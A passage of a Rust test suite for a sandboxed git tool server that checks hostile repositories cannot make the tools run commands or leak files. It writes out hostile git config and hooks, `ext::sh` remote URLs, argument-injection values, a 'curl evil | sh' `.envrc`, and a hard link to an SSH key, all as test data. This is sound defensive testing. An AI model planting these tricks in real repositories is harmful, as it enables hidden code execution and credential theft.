        let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
        assert!(e.contains(url), "{url}: {e}");
    }
    // A non-bare remote with the branch checked out is refused.
    let nonbare = fx.root.join("nonbare");
    init_repo(h, &nonbare);
    host_git(h, &nonbare, &["switch", "-q", "-c", "task/z"]);
    let nonbare_tip = host_git(h, &nonbare, &["rev-parse", "HEAD"]);
    host_git(h, &repo, &["remote", "set-url", "origin", nonbare.to_str().unwrap()]);
    let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
    assert!(e.contains("checked out in its work tree"), "{e}");
    assert_eq!(host_git(h, &nonbare, &["rev-parse", "HEAD"]), nonbare_tip);
    // Control: back to the writable bare remote, as a file:// URL.
    host_git(h, &repo, &["remote", "set-url", "origin", &format!("file://{}", remote.display())]);
    let p = c.ok("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
    assert_eq!(ref_of(h, &remote, "refs/heads/task/z").unwrap(), p["new"].as_str().unwrap());
    c.stop().await;
    fx.assert_canary();
}

/// Makes `repo` (with a bare `remote` as origin) hostile: every config key, attribute and hook
/// that would make command-line git run a program is set to `touch CANARIES/<key>`.
fn make_hostile(home: &Path, repo: &Path, remote: &Path, hooks: &Path, canaries: &Path) {
    init_repo(home, repo);
    write(&repo.join(".gitattributes"), "* filter=evil diff=evil merge=evil\n");
    cli_commit(home, repo, "c.txt", "c\n", "attributes");
    host_git(home, remote.parent().unwrap(), &["init", "-q", "--bare", remote.to_str().unwrap()]);
    host_git(home, repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
    // From here on the repository is never touched by the CLI again (it would fire).
    let t = |name: &str| format!("touch {}/{name}", canaries.display());
    let config = format!(
        "[core]\n\tfsmonitor = {fsmonitor}\n\thooksPath = {hooks}\n\tsshCommand = {ssh}\n\
         \tpager = {pager}\n\teditor = {editor}\n\taskPass = {askpass}\n\
         [sequence]\n\teditor = {seq}\n\
         [diff]\n\texternal = {external}\n\
         [credential]\n\thelper = !{cred}\n\
         [filter \"evil\"]\n\tclean = {clean}\n\tsmudge = {smudge}\n\tprocess = {process}\n\
         [diff \"evil\"]\n\ttextconv = {textconv}\n\tcommand = {diffcmd}\n\
         [merge \"evil\"]\n\tdriver = {merge}\n\
         [gpg]\n\tprogram = {gpg}\n[commit]\n\tgpgsign = true\n\
         [remote \"origin\"]\n\treceivepack = {receive}\n\tuploadpack = {upload}\n",
        fsmonitor = t("fsmonitor"),
        hooks = hooks.display(),
        ssh = t("sshcommand"),
        pager = t("pager"),
        editor = t("editor"),
        askpass = t("askpass"),
        seq = t("sequence-editor"),
        external = t("diff-external"),
        cred = t("credential-helper"),
        clean = t("filter-clean"),
        smudge = t("filter-smudge"),
        process = t("filter-process"),
        textconv = t("textconv"),
        diffcmd = t("diff-command"),
        merge = t("merge-driver"),
        gpg = t("gpg-program"),
        receive = t("receivepack"),
        upload = t("uploadpack"),
    );
    let cfg = repo.join(".git/config");
    let mut text = read(&cfg);
    text.push_str(&config);
    write(&cfg, &text);
    for (dir, tag) in [(repo.join(".git/hooks"), "git-hooks"), (hooks.to_path_buf(), "hookspath")] {
        for hook in [
            "pre-commit",
            "prepare-commit-msg",
            "commit-msg",
            "post-commit",
            "post-checkout",
            "reference-transaction",
            "pre-push",
            "post-index-change",
        ] {
            let p = dir.join(hook);
            write(&p, &format!("#!/bin/sh\n{}\n", t(&format!("{tag}-{hook}"))));
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    // Changes for the tools to see: a tracked file modified, an untracked one.
    write(&repo.join("a.txt"), &numbered(7));
    write(&repo.join("new.txt"), "new\n");
}

/// The hostile key names a refusal may name instead of succeeding.
const HOSTILE_KEYS: [&str; 13] = [
    "core.fsmonitor",
    "core.hookspath",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "diff.external",
    "credential.helper",
    "filter.evil",
    "diff.evil",
    "merge.evil",
    "gpg.program",
    "remote.origin.receivepack",
];

/// Calls a tool on the hostile repository: it either succeeds or refuses naming a hostile key;
/// either way no canary appears outside the roots.
async fn inert(fx: &Fixture, c: &Client, tool: &str, args: Value) -> Option<Value> {
    let r = c.call(tool, args.clone()).await;
    fx.assert_canary();
    if r.is_error == Some(true) {
        let e = text_of(&r);
        assert!(
            HOSTILE_KEYS.iter().any(|k| contains_ci(&e, k)),
            "{tool} {args} failed without naming a hostile key: {e}"
        );
        return None;
    }
    Some(r.structured_content.clone().unwrap_or(Value::Null))
}

#[tokio::test]
async fn a_hostile_repository_cannot_make_the_tools_run_anything() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let remote = fx.root.join("hremote.git");
    make_hostile(h, &repo, &remote, &fx.root.join("evil-hooks"), &fx.outside);
    fx.assert_canary();

    let r = json!({"repo": "repo"});
    if let Some(s) = inert(&fx, &c, "git_status", r.clone()).await {
        assert_eq!(paths(&s["unstaged"]), ["a.txt"], "{s}");
        assert_eq!(paths(&s["untracked"]), ["new.txt"], "{s}");
    }
    if let Some(d) = inert(&fx, &c, "git_diff", r.clone()).await {
        // The raw lines, not a textconv's or external diff's output.
        let p = d["patch"].as_str().unwrap();
        assert!(p.contains("-line7\n+LINE7\n"), "{p}");
    }
    inert(&fx, &c, "git_diff", json!({"repo": "repo", "staged": true})).await;
    inert(&fx, &c, "git_diff", json!({"repo": "repo", "path": "a.txt"})).await;
    inert(&fx, &c, "git_log", r.clone()).await;
    inert(&fx, &c, "git_log", json!({"repo": "repo", "path": "a.txt"})).await;
    inert(&fx, &c, "git_branches", r.clone()).await;
    if let Some(out) =
        inert(&fx, &c, "git_commit", json!({"repo": "repo", "message": "hostile"})).await
    {
        assert_eq!(out["files"], json!(["a.txt", "new.txt"]), "{out}");
        // No clean filter ran: the work tree is clean against the commit.
        let s = c.ok("git_status", r.clone()).await;
        assert_eq!(s["total"], 0, "{s}");
    }
    inert(&fx, &c, "git_branch", json!({"repo": "repo", "name": "task/h"})).await;
    write(&repo.join("h.txt"), "h\n");
    inert(
        &fx,
        &c,
        "git_commit",
        json!({"repo": "repo", "message": "on task/h", "paths": ["h.txt"]}),
    )
    .await;
    inert(&fx, &c, "git_switch", json!({"repo": "repo", "branch": "main"})).await;
    inert(&fx, &c, "git_branch", json!({"repo": "repo", "name": "task/h2", "checkout": false}))
        .await;
    inert(&fx, &c, "git_switch", json!({"repo": "repo", "branch": "task/h"})).await;
    let commits = inert(
        &fx,
        &c,
        "git_branch_commits",
        json!({"repo": "repo", "branch": "task/h", "base": "main"}),
    )
    .await;
    inert(&fx, &c, "git_branch_commits", json!({"repo": "repo", "branch": "task/h"})).await;
    inert(
        &fx,
        &c,
        "git_worktree_add",
        json!({"repo": "repo", "path": "hwt", "branch": "task/hwt"}),
    )
    .await;
    if let Some(p) = inert(&fx, &c, "git_push", json!({"repo": "repo", "branch": "task/h"})).await {
        // The bare remote's own config is clean, so the CLI may read it.
        assert_eq!(ref_of(h, &remote, "refs/heads/task/h").unwrap(), p["new"].as_str().unwrap());
        if let Some(b) = &commits {
            assert_eq!(b["commits"][0]["id"], p["new"], "{b}");
        }
    }
    c.stop().await;
    fx.assert_canary();

    // Positive control: the same fixture, built in a separate temp folder with its canaries
    // there, does fire when command-line git commits in it.
    let other = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(other.path()).unwrap();
    let (home, canaries) = (base.join("home"), base.join("canaries"));
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&canaries).unwrap();
    let copy = base.join("repo");
    make_hostile(&home, &copy, &base.join("remote.git"), &base.join("evil-hooks"), &canaries);
    let fired = || -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&canaries)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        names
    };
    let _ = host_git_output(&home, &copy, &["commit", "--allow-empty", "-m", "x"]);
    assert!(!fired().is_empty(), "command-line git should have fired the hostile fixture");
    // With the filter process and fsmonitor out of the way, the hooks fire too.
    let _ = host_git_output(
        &home,
        &copy,
        &[
            "-c",
            "filter.evil.process=",
            "-c",
            "core.fsmonitor=false",
            "commit",
            "--allow-empty",
            "-m",
            "y",
        ],
    );
    assert!(fired().iter().any(|n| n.starts_with("hookspath-")), "{:?}", fired());
    fx.assert_canary();
}

#[tokio::test]
async fn config_keys_that_read_or_run_outside_are_refused_by_name() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    init_repo(h, &repo);
    let cfg = repo.join(".git/config");
    let clean = read(&cfg);
    let out = fx.outside.display();
    for (extra, key) in [
        (format!("[include]\n\tpath = {out}/inc.config\n"), "include.path"),
        (format!("[includeIf \"gitdir:/\"]\n\tpath = {out}/inc.config\n"), "includeif."),
        (format!("[core]\n\texcludesFile = {out}/ignore\n"), "core.excludesfile"),
        (format!("[core]\n\tattributesFile = {out}/attrs\n"), "core.attributesfile"),
        (format!("[url \"ext::sh -c touch% {out}/ext\"]\n\tinsteadOf = origin:\n"), "insteadof"),
        (format!("[url \"{out}/\"]\n\tinsteadOf = mirror:\n"), "insteadof"),
        (
            format!("[remote \"origin\"]\n\turl = ext::sh -c touch% {out}/ext\n"),
            "remote.origin.url",
        ),
    ] {
        write(&cfg, &format!("{clean}{extra}"));
        let e = c.err("git_status", json!({"repo": "repo"})).await;
        assert!(contains_ci(&e, key) && e.contains("is refused"), "{key}: {e}");
        let e = c.err("git_log", json!({"repo": "repo"})).await;
        assert!(contains_ci(&e, key), "{key}: {e}");
        fx.assert_canary();
        write(&cfg, &clean);
        c.ok("git_status", json!({"repo": "repo"})).await;
    }
    // An include inside the roots is fine.
    write(&repo.join("inc.config"), "[user]\n\tname = Included\n");
    write(&cfg, &format!("{clean}[include]\n\tpath = ../inc.config\n"));
    c.ok("git_status", json!({"repo": "repo"})).await;
    // core.worktree outside the roots is refused.
    write(&cfg, &format!("{clean}[core]\n\tworktree = {out}\n"));
    let e = c.err("git_status", json!({"repo": "repo"})).await;
    assert!(e.contains("work tree") && e.contains("outside the roots"), "{e}");
    write(&cfg, &clean);
    c.ok("git_status", json!({"repo": "repo"})).await;
    c.stop().await;
    fx.assert_canary();
}

/// Every regular file or folder named `x` under `dir`.
fn files_named_x(dir: &Path, found: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let p = e.path();
        if e.file_name() == "x" {
            found.push(p.clone());
        }
        if e.file_type().unwrap().is_dir() {
            files_named_x(&p, found);
        }
    }
}

#[tokio::test]
async fn option_and_ref_syntax_injection_is_refused() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let remote = fx.root.join("remote.git");
    init_repo(h, &repo);
    host_git(h, &fx.root, &["init", "-q", "--bare", remote.to_str().unwrap()]);
    host_git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
    host_git(h, &repo, &["branch", "task/a"]);
    let refs = host_git(h, &repo, &["for-each-ref"]);
    let head = host_git(h, &repo, &["symbolic-ref", "HEAD"]);
    let remote_refs = host_git(h, &remote, &["for-each-ref"]);

    let bad = ["-f", "--output=x", "a..b", "refs/heads/../x", "HEAD@{1}", "a\0b", "task/a\0", "--"];
    for name in bad {
        for (tool, args) in [
            ("git_branch", json!({"repo": "repo", "name": name})),
            ("git_branch", json!({"repo": "repo", "name": "task/ok", "start": name})),
            ("git_switch", json!({"repo": "repo", "branch": name})),
            ("git_push", json!({"repo": "repo", "branch": name})),
            ("git_branch_commits", json!({"repo": "repo", "branch": name})),
            ("git_branch_commits", json!({"repo": "repo", "branch": "task/a", "base": name})),
            ("git_log", json!({"repo": "repo", "rev": name})),
            ("git_worktree_add", json!({"repo": "repo", "path": "wtx", "branch": name})),
        ] {
            let e = c.err(tool, args.clone()).await;
            assert!(e.contains("argument `") && e.contains("is refused"), "{tool} {args}: {e}");
        }
    }
    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs, "refs unchanged");
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "HEAD"]), head);
    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "");
    assert_eq!(host_git(h, &remote, &["for-each-ref"]), remote_refs, "remote unchanged");
    let mut xs = Vec::new();
    files_named_x(&fx.root, &mut xs);
    assert!(xs.is_empty(), "{xs:?}");
    assert!(!fx.root.join("wtx").exists());
    fx.assert_canary();

    // Positive controls: plain names pass every one of those tools.
    c.ok(
        "git_branch",
        json!({"repo": "repo", "name": "task/ok", "start": "task/a", "checkout": false}),
    )
    .await;
    c.ok("git_switch", json!({"repo": "repo", "branch": "task/ok"})).await;
    c.ok("git_branch_commits", json!({"repo": "repo", "branch": "task/ok", "base": "main"})).await;
    c.ok("git_log", json!({"repo": "repo", "rev": "task/a"})).await;
    c.ok("git_worktree_add", json!({"repo": "repo", "path": "wtx", "branch": "task/wt"})).await;
    let p = c.ok("git_push", json!({"repo": "repo", "branch": "task/ok"})).await;
    assert_eq!(ref_of(h, &remote, "refs/heads/task/ok").unwrap(), p["new"].as_str().unwrap());
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn a_dot_git_file_pointing_outside_the_roots_is_refused() {
    let (fx, c) = start().await;
    let h = &fx.home;
    // A real git dir in a separate temp folder (not the canary folder), reached by a `.git`
    // file in the root.
    let sep = tempfile::tempdir().unwrap();
    let sep = std::fs::canonicalize(sep.path()).unwrap();
    let real = sep.join("real.git");
    let evil = fx.root.join("evil");
    std::fs::create_dir_all(&evil).unwrap();
    host_git(h, &evil, &["init", "-q", "-b", "main", "--separate-git-dir", real.to_str().unwrap()]);
    cli_commit(h, &evil, "a.txt", "a\n", "first");
    assert!(read(&evil.join(".git")).starts_with("gitdir:"));
    let real_refs = host_git(h, &real, &["for-each-ref"]);
    write(&evil.join("b.txt"), "b\n");
    // Pointing at a missing path in the canary folder, absolute and relative.
    write(&fx.root.join("evil2/.git"), &format!("gitdir: {}/missing.git\n", fx.outside.display()));
    write(&fx.root.join("evil3/.git"), "gitdir: ../../outside/missing.git\n");
    // A `.git` symlink to the outside git dir.
    std::fs::create_dir_all(fx.root.join("evil4")).unwrap();
    std::os::unix::fs::symlink(&real, fx.root.join("evil4/.git")).unwrap();

    // Control: the same layout with the git dir under the root works.
    let good = fx.root.join("good");
    std::fs::create_dir_all(&good).unwrap();
    let good_dir = fx.root.join("good.gitdir");
    host_git(
        h,
        &good,
        &["init", "-q", "-b", "main", "--separate-git-dir", good_dir.to_str().unwrap()],
    );
    cli_commit(h, &good, "a.txt", "a\n", "first");
    write(&good.join("b.txt"), "b\n");

    for (tool, extra) in [
        ("git_status", json!({})),
        ("git_diff", json!({})),
        ("git_log", json!({})),
        ("git_branches", json!({})),
        ("git_commit", json!({"message": "x"})),
        ("git_branch", json!({"name": "task/e", "checkout": false})),
        ("git_branch_commits", json!({"branch": "main"})),
    ] {
        let with = |repo: &str| {
            let mut a = extra.clone();
            a["repo"] = json!(repo);
            a
        };
        let e = c.err(tool, with("evil")).await;
        assert!(e.contains("outside the roots"), "{tool}: {e}");
        for repo in ["evil2", "evil3"] {
            let e = c.err(tool, with(repo)).await;
            assert!(e.contains("outside the roots"), "{tool} {repo}: {e}");
        }
        let e = c.err(tool, with("evil4")).await;
        assert!(contains_ci(&e, "outside") || contains_ci(&e, "leaves root"), "{tool}: {e}");
        c.ok(tool, with("good")).await;
        fx.assert_canary();
    }
    assert_eq!(
        host_git(h, &real, &["for-each-ref"]),
        real_refs,
        "the outside git dir is unchanged"
    );
    assert_eq!(host_git(h, &evil, &["status", "--porcelain"]), "?? b.txt");
    assert_eq!(host_git(h, &good, &["log", "-1", "--format=%s"]), "x", "the control committed");

    // Objects borrowed from outside (alternates) are refused; borrowed from inside, fine.
    let src = sep.join("src");
    init_repo(h, &src);
    host_git(h, &fx.root, &["clone", "-q", "--shared", src.to_str().unwrap(), "alt"]);
    let e = c.err("git_log", json!({"repo": "alt"})).await;
    assert!(e.contains("alternate object store") && e.contains("outside the roots"), "{e}");
    host_git(h, &fx.root, &["clone", "-q", "--shared", good.to_str().unwrap(), "alt-ok"]);
    c.ok("git_log", json!({"repo": "alt-ok"})).await;
    // A symlink inside the git dir that leaves the roots is refused.
    std::os::unix::fs::symlink(fx.outside.join("canary.txt"), good_dir.join("description2"))
        .unwrap();
    let e = c.err("git_status", json!({"repo": "good"})).await;
    assert!(e.contains("symlink inside the git dir"), "{e}");
    std::fs::remove_file(good_dir.join("description2")).unwrap();
    c.ok("git_status", json!({"repo": "good"})).await;
    // A repository reached through a symlink that leaves the root.
    std::os::unix::fs::symlink(&src, fx.root.join("srclink")).unwrap();
    let e = c.err("git_status", json!({"repo": "srclink"})).await;
    assert!(e.contains("leaves root"), "{e}");
    c.stop().await;
    fx.assert_canary();
}

/// Found by session 41's attack pass: `objects/info/alternates` was checked line by line at
/// `\n` and each line joined to `objects/`, while libgit2 splits at `\r` too and takes a line
/// not starting with `.` from the daemon's working folder. `./x\r/outside/objects`, or a
/// relative line that stays in the roots from `objects/` but leaves them from the daemon's
/// folder, let `git_log` print another repository's commits. Both are refused now; positive
/// controls: an alternate inside the roots, written either way, is read.
#[tokio::test]
async fn alternates_are_checked_as_libgit2_reads_them() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let sep = tempfile::tempdir().unwrap();
    let sep = std::fs::canonicalize(sep.path()).unwrap();
    let src = sep.join("src");
    init_repo(h, &src);
    let secret = cli_commit(h, &src, "s.txt", "outside\n", "SECRET-OUTSIDE");
    let outside_objects = src.join(".git/objects");
    let repo = fx.root.join("alt3");
    init_repo(h, &repo);
    let alternates = repo.join(".git/objects/info/alternates");
    let log = json!({ "repo": "alt3", "rev": secret });
    // Lines split at a carriage return, as libgit2 splits them.
    write(&alternates, &format!("./x\r{}\n", outside_objects.display()));
    let e = c.err("git_log", log.clone()).await;
    assert!(e.contains("alternate object store") && e.contains("outside the roots"), "{e}");
    assert!(!e.contains("SECRET-OUTSIDE"), "{e}");
    // A relative line taken from the daemon's working folder (the fixture's root): four steps
    // up from `alt3/` there, but only back to the root from `alt3/.git/objects/alt3/`.
    let cwd_up = fx.root.ancestors().nth(3).unwrap_or(Path::new("/"));
    let rest = outside_objects.strip_prefix(cwd_up).unwrap();
    write(&alternates, &format!("alt3/../../../../{}\n", rest.display()));
    let e = c.err("git_log", log.clone()).await;
    assert!(e.contains("alternate object store") && e.contains("outside the roots"), "{e}");
    // Positive controls: objects borrowed from a repository inside the roots, by an absolute
    // line and by a `.` line, are read.
    let inside = fx.root.join("lender");
    init_repo(h, &inside);
    let lent = cli_commit(h, &inside, "l.txt", "lent\n", "LENT-INSIDE");
    let lent_log = json!({ "repo": "alt3", "rev": lent });
    write(&alternates, &format!("{}\n", inside.join(".git/objects").display()));
    let r = c.ok("git_log", lent_log.clone()).await;
    assert!(r.to_string().contains("LENT-INSIDE"), "{r}");
    write(&alternates, "../../../lender/.git/objects\r\n");
    let r = c.ok("git_log", lent_log).await;
    assert!(r.to_string().contains("LENT-INSIDE"), "{r}");
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn checkouts_that_would_touch_protected_files_are_refused() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let c1 = init_repo(h, &repo);
    host_git(h, &repo, &["switch", "-q", "-c", "task/envrc"]);
    cli_commit(h, &repo, ".envrc", "curl evil | sh\n", "envrc");
    host_git(h, &repo, &["switch", "-q", "-c", "task/vscode", "main"]);
    cli_commit(h, &repo, ".vscode/settings.json", "{}\n", "vscode");
    host_git(h, &repo, &["switch", "-q", "main"]);
    let refs = host_git(h, &repo, &["for-each-ref"]);

    let e = c.err("git_switch", json!({"repo": "repo", "branch": "task/envrc"})).await;
    assert!(e.contains("protected files") && e.contains(".envrc"), "{e}");
    let e = c
        .err("git_branch", json!({"repo": "repo", "name": "task/v2", "start": "task/vscode"}))
        .await;
    assert!(e.contains("protected files") && e.contains(".vscode"), "{e}");
    let e = c
        .err(
            "git_worktree_add",
            json!({"repo": "repo", "path": "wt-envrc", "branch": "task/envrc"}),
        )
        .await;
    assert!(e.contains("protected files") && e.contains(".envrc"), "{e}");
    assert!(!repo.join(".envrc").exists() && !repo.join(".vscode").exists());
    assert!(!fx.root.join("wt-envrc/.envrc").exists());
    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs);
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
    // Controls: the same tools on a branch without protected files.
    c.ok("git_branch", json!({"repo": "repo", "name": "task/plain", "checkout": false})).await;
    c.ok("git_switch", json!({"repo": "repo", "branch": "task/plain"})).await;
    c.ok("git_worktree_add", json!({"repo": "repo", "path": "wt-plain", "branch": "task/w"})).await;
    assert_eq!(host_git(h, &repo, &["rev-parse", "task/w"]), c1);

    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn commit_paths_secrets_first_commit_and_identity() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    init_repo(h, &repo);

    // `paths` naming a folder commits what is beneath it; a deleted file is committed as a
    // deletion; everything else stays as it was.
    write(&repo.join("newdir/x.txt"), "x\n");
    write(&repo.join("newdir/y/z.txt"), "z\n");
    write(&repo.join("other.txt"), "o\n");
    let out =
        c.ok("git_commit", json!({"repo": "repo", "message": "folder", "paths": ["newdir"]})).await;
    assert_eq!(out["files"], json!(["newdir/x.txt", "newdir/y/z.txt"]), "{out}");
    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "?? other.txt");
    std::fs::remove_file(repo.join("b.txt")).unwrap();
    let out =
        c.ok("git_commit", json!({"repo": "repo", "message": "del", "paths": ["b.txt"]})).await;
    assert_eq!(out["files"], json!(["b.txt"]), "{out}");
    assert_eq!(
        host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]),
        "a.txt\nnewdir/x.txt\nnewdir/y/z.txt"
    );
    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "?? other.txt");

    // A tracked secret file: its diff is masked and hands never commits it.
    write(&repo.join(".env"), "A=1\n");
    host_git(h, &repo, &["add", "-f", ".env"]);
    host_git(h, &repo, &["commit", "-q", "-m", "env"]);
    write(&repo.join(".env"), "A=hunter2\n");
    for args in [json!({"repo": "repo"}), json!({"repo": "repo", "path": ".env"})] {
        let d = c.ok("git_diff", args).await;
        let p = d["patch"].as_str().unwrap();
        assert!(p.contains("content not shown") && !p.contains("hunter2"), "{p}");
        assert_eq!(d["files_changed"], 1);
    }
    let e = c.err("git_commit", json!({"repo": "repo", "message": "env", "paths": [".env"]})).await;
    assert!(e.contains("secret or denied file"), "{e}");
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "the rest"})).await;
    assert_eq!(out["files"], json!(["other.txt"]), "{out}");
    assert_eq!(out["skipped"], json!([".env"]), "{out}");
    assert_eq!(host_git(h, &repo, &["show", "HEAD:.env"]), "A=1");

    // A repository with no commits yet.
    let u = fx.root.join("unborn");
    std::fs::create_dir_all(&u).unwrap();
    host_git(h, &u, &["init", "-q", "-b", "main"]);
    let s = c.ok("git_status", json!({"repo": "unborn"})).await;
    assert_eq!(s["branch"], "main", "{s}");
    assert!(s["head"].is_null(), "{s}");
    let l = c.ok("git_log", json!({"repo": "unborn"})).await;
    assert_eq!(l["commits"], json!([]));
    let b = c.ok("git_branches", json!({"repo": "unborn"})).await;
    assert_eq!(b["branches"], json!([]));
    let e = c.err("git_branch", json!({"repo": "unborn", "name": "task/u"})).await;
    assert!(e.contains("HEAD has no commits yet"), "{e}");
    let e = c
        .err("git_worktree_add", json!({"repo": "unborn", "path": "wtu", "branch": "task/u"}))
        .await;
    assert!(e.contains("HEAD has no commits yet"), "{e}");
    assert!(!fx.root.join("wtu").exists());
    write(&u.join("f.txt"), "f\n");
    let out = c.ok("git_commit", json!({"repo": "unborn", "message": "root"})).await;
    assert_eq!(out["branch"], "main", "{out}");
    assert_eq!(out["files"], json!(["f.txt"]));
    assert_eq!(host_git(h, &u, &["rev-parse", "HEAD"]), out["id"].as_str().unwrap());
    assert_eq!(host_git(h, &u, &["rev-list", "--count", "HEAD"]), "1");
    c.stop().await;

    // Without author_name/author_email the repository's identity is used; ~/.gitconfig is
    // never read, so a repository without one gets a clear error.
    let text = git_config(true, true, "allow")
        .replace("author_name = \"Agent\"\nauthor_email = \"agent@example.com\"\n", "");
    assert!(!text.contains("author_name"));
    let c = Client::start(&fx, &config_named(&fx, "noauthor.toml", &text)).await;
    write(&fx.home.join(".gitconfig"), "[user]\n\tname = Global\n\temail = global@example.com\n");
    write(&repo.join("n.txt"), "n\n");
    let e = c.err("git_commit", json!({"repo": "repo", "message": "who"})).await;
    assert!(e.contains("no commit identity"), "{e}");
    host_git(h, &repo, &["config", "user.name", "Repo Person"]);
    host_git(h, &repo, &["config", "user.email", "repo@example.com"]);
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "who"})).await;
    assert_eq!(
        host_git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn", out["id"].as_str().unwrap()]),
        "Repo Person <repo@example.com>|Repo Person"
    );
    c.stop().await;
    fx.assert_canary();
}

/// 100,000 files: `git_status` and `git_diff` answer with capped output and `truncated`, and the
/// daemon keeps serving.
#[tokio::test]
#[ignore = "stress (a hundred thousand files, about a minute); run with --include-ignored"]
async fn status_and_diff_stay_bounded_on_a_hundred_thousand_files() {
    let (fx, c) = start().await;
    let repo = fx.root.join("big");
    std::fs::create_dir_all(&repo).unwrap();
    host_git(&fx.home, &repo, &["init", "-q", "-b", "main"]);
    for d in 0..1000 {
        let dir = repo.join(format!("d{d:04}"));
        std::fs::create_dir(&dir).unwrap();
        for f in 0..100 {
            std::fs::write(dir.join(format!("f{f:03}.txt")), format!("file {d} {f}\n")).unwrap();
        }
    }
    host_git(&fx.home, &repo, &["add", "-A"]);
    host_git(&fx.home, &repo, &["commit", "-q", "-m", "a hundred thousand files"]);
    // Change 20,000 tracked files and leave 2,000 untracked ones.
    for d in 0..200 {
        for f in 0..100 {
            let p = repo.join(format!("d{d:04}/f{f:03}.txt"));
            std::fs::write(&p, format!("file {d} {f}\nchanged\n")).unwrap();
        }
        for f in 0..10 {
            std::fs::write(repo.join(format!("d{d:04}/new{f}.txt")), "new\n").unwrap();
        }
    }
    let s = c.ok("git_status", json!({"repo": "big"})).await;
    assert_eq!(s["truncated"], true, "status is capped");
    let listed = ["staged", "unstaged", "untracked", "conflicted"]
        .iter()
        .map(|k| s[k].as_array().map_or(0, Vec::len))
        .sum::<usize>();
    assert!(listed <= 1000, "{listed} entries listed");
    assert!(s.to_string().len() < 512 * 1024);
    let d = c.ok("git_diff", json!({"repo": "big"})).await;
    assert_eq!(d["truncated"], true, "diff is capped");
    assert!(d["patch"].as_str().unwrap().len() <= 256 * 1024);
    assert!(d["patch"].as_str().unwrap().contains("+changed"));
    // Still serving.
    let l = c.ok("git_log", json!({"repo": "big", "limit": 1})).await;
    assert_eq!(l["commits"].as_array().unwrap().len(), 1);
    c.stop().await;
    fx.assert_canary();
}

/// A hard link inside a repository to a credential (`~/.ssh/id_ed25519` under the name
/// `notes.txt`) is hidden by file identity, as the file tools and the sandbox hide it: a
/// commit naming it is refused, a commit of everything skips it, and its diff shows no content.
/// Positive control: an ordinary file beside it is committed.
#[tokio::test]
async fn a_hard_link_to_a_credential_is_never_committed_or_shown() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join("ro")).unwrap();
    let h = &fx.home;
    let key = "-----BEGIN OPENSSH PRIVATE KEY----- canary-key-material";
    write(&h.join(".ssh/id_ed25519"), &format!("{key}\n"));
    let repo = fx.root.join("repo");
    init_repo(h, &repo);
    // Tracked under an innocent name first; then the name becomes a link to the key.
    cli_commit(h, &repo, "notes.txt", "my notes\n", "notes");
    std::fs::remove_file(repo.join("notes.txt")).unwrap();
    std::fs::hard_link(h.join(".ssh/id_ed25519"), repo.join("notes.txt")).unwrap();
    std::fs::hard_link(h.join(".ssh/id_ed25519"), repo.join("new-notes.txt")).unwrap();
    write(&repo.join("plain.txt"), "plain\n");
    let cfg = config_named(&fx, "git.toml", &git_config(true, true, "allow"));
    let c = Client::start(&fx, &cfg).await;

    for args in [json!({"repo": "repo"}), json!({"repo": "repo", "path": "notes.txt"})] {
        let d = c.ok("git_diff", args).await;
        let p = d["patch"].as_str().unwrap();
        assert!(!p.contains("canary-key"), "the key's content was shown: {p}");
        assert!(p.contains("content not shown"), "{p}");
    }
    for named in ["notes.txt", "new-notes.txt"] {
        let e =
            c.err("git_commit", json!({"repo": "repo", "message": "k", "paths": [named]})).await;
        assert!(e.contains("secret or denied file"), "{named}: {e}");
    }
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "the rest"})).await;
    assert_eq!(out["files"], json!(["plain.txt"]), "{out}");
    let tree = host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert!(!tree.contains("new-notes.txt"), "{tree}");
    assert_eq!(host_git(h, &repo, &["show", "HEAD:notes.txt"]), "my notes");
    let log = host_git(h, &repo, &["log", "-p", "--all"]);
    assert!(!log.contains("canary-key"), "the key reached a commit: {log}");
    c.stop().await;
    fx.assert_canary();
}

/// tools-shell makes nothing in the repositories of its writable roots (no `.git/commondir`:
/// the in-run walls refuse creating one); tools-git (libgit2) and the git CLI work beside it:
/// status, commit, log, a new branch and a worktree.
#[tokio::test]
async fn the_git_tools_work_beside_the_sandbox_which_makes_no_commondir() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join("ro")).unwrap();
    let h = &fx.home;
    let repo = fx.root.join("repo");
    init_repo(h, &repo);
    // Commands run as the roots' owner (uid 65534 when the suite is root).
    super::common::own_tree(&repo);
